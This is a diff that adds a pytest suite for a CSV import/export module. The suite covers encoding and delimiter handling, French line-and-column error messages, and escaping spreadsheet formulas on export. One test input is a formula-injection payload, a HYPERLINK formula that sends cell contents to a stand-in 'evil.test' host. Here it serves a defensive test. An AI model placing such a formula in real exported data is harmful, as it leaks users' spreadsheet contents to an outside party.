@@ -1,0 +1,111 @@
+"""The shared CSV reader and writer (every import and export goes through them)."""
+
+import csv
+import io
+from datetime import date
+
+import pytest
+
+from engagements.csvio import CsvImportError, neutralise, read_csv, to_csv_text
+
+COLUMNS = ["site", "received_on", "count"]
+
+
+def _read(data, **kwargs):
+    return read_csv(data, required=COLUMNS, **kwargs)
+
+
+def _errors(data, **kwargs) -> list[str]:
+    with pytest.raises(CsvImportError) as exc:
+        table = _read(data, **kwargs)
+        for row in table:
+            row.date("received_on", required=True)
+            row.int("count", min=0)
+        table.raise_errors()
+    return exc.value.lines
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"site,received_on,count\nnord,2026-03-01,4\n",
+        "\ufeffsite,received_on,count\r\nnord,01/03/2026,4\r\n".encode(),
+        "site;received_on;count\nnord;1/3/2026;4\n".encode("cp1252"),
+        "SITE ; Received_On ; count\nnord;2026-03-01;4\n".encode("utf-8-sig"),
+    ],
+    ids=["utf8-comma", "bom-crlf-dmy", "cp1252-semicolon", "header-case"],
+)
+def test_reads_what_french_spreadsheets_save(data):
+    table = _read(data)
+    [row] = table.rows
+    assert row["site"] == "nord"
+    assert row.date("received_on") == date(2026, 3, 1)
+    assert row.int("count") == 4
+    assert row.line == 2
+
+
+def test_windows_1252_accents():
+    table = _read("site;received_on;count\nSainte-Aurée;2026-03-01;4\n".encode("cp1252"))
+    assert table.rows[0]["site"] == "Sainte-Aurée"
+
+
+@pytest.mark.parametrize(
+    "data, expected",
+    [
+        (b"", "ligne 1 : fichier vide"),
+        (b"site,received_on,count\n", "ligne 2 : aucune ligne de données"),
+        (b"site,count\nx,1\n", "ligne 1 : colonnes manquantes : received_on"),
+        (b"site,received_on,count,bonus\nx,2026-01-01,1,2\n", "colonnes inconnues : bonus"),
+        (b"site,received_on,count\nx,2026-01-01,1,extra\n", "ligne 2 : 4 cellules pour 3"),
+        (b"site,received_on,count\nx\x00y,2026-01-01,1\n", "colonne « site » : caractère nul"),
+        ("site,received_on,count\nx,2026-01-01,²\n".encode(), "« count » : « ² » n'est pas"),
+        ("site,received_on,count\nx,2026-01-01,٤\n".encode(), "« count » : « ٤ » n'est pas"),
+        (b"site,received_on,count\nx,31/02/2026,1\n", "« received_on » : « 31/02/2026 »"),
+        (b"site,received_on,count\nx,,1\n", "« received_on » : date obligatoire"),
+        (b"site,received_on,count\nx,2026-01-01,-3\n", "« count » : -3 est inf"),
+        (b"\x81\x8d\x8f\x90\x9d", "encodage non reconnu"),
+    ],
+)
+def test_broken_files_name_the_line_and_column(data, expected):
+    assert any(expected in line for line in _errors(data)), _errors(data)
+
+
+def test_oversized_cells_are_line_errors():
+    data = ("site,received_on,count\n" + "x" * 20_000 + ",2026-01-01,1\n").encode()
+    assert any("ligne 2, colonne « site » : 20000 caractères" in e for e in _errors(data))
+
+
+def test_line_numbers_count_physical_lines_with_multiline_cells():
+    data = b'site,received_on,count\n"a\nb",2026-01-01,1\n\nc,bad,1\n'
+    assert _errors(data) == [
+        "ligne 5, colonne « received_on » : « bad » n'est pas une date (AAAA-MM-JJ ou JJ/MM/AAAA)"
+    ]
+
+
+def test_every_bad_line_is_reported_at_once():
+    data = b"site,received_on,count\na,x,1\nb,2026-01-01,y\nc,2026-01-01,2\n"
+    assert [e.split(",")[0] for e in _errors(data)] == ["ligne 2", "ligne 3"]
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ('=HYPERLINK("http://evil.test/?"&A1)', '\'=HYPERLINK("http://evil.test/?"&A1)'),
+        ("+33 6 12", "'+33 6 12"),
+        ("-1+2", "'-1+2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("Camille", "Camille"),
+        (-3, -3),
+        (None, ""),
+    ],
+)
+def test_writer_neutralises_formulas(value, expected):
+    assert neutralise(value) == expected
+
+
+def test_written_csv_round_trips_with_bom_and_semicolons():
+    text = to_csv_text(["nom", "n"], [["=1+1", 3], ["Anaïs", 4]])
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
+    assert rows == [["nom", "n"], ["'=1+1", "3"], ["Anaïs", "4"]]
